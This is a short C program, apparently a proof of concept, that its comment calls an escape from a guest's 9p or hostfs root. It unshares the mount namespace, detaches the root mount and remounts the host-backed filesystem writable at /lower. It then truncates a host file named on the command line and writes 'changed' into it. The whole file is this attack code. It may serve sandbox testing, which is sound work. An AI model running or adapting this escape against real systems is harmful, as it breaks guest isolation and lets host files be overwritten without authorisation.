// SPDX-License-Identifier: Apache-2.0
/*
 * escape 9p|hostfs FILE: leaves the root that init made, makes the host's tree below it writable as far as the guest's
 * kernel goes, and writes there. What is left to refuse is on the host.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char path[4096];
	int ns;

	if (argc != 3 || unshare(CLONE_NEWNS) || (ns = open("/proc/self/ns/mnt", O_RDONLY)) < 0 ||
	    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
	    /* Without what is mounted on it, the root of the namespace is the initramfs. */
	    umount2("/", MNT_DETACH) || setns(ns, CLONE_NEWNS) || mount("root", "/lower", argv[1], MS_REMOUNT, "")) {
		perror("escape");
		return 1;
	}
	snprintf(path, sizeof(path), "/lower%s", argv[2]);
	if (access(path, R_OK) == 0)
		puts("the host's tree is below");
	int fd = open(path, O_WRONLY | O_TRUNC);

	printf("write: %s\n", fd < 0 || write(fd, "changed", 7) < 0 ? strerror(errno) : "it worked");
	return 0;
}
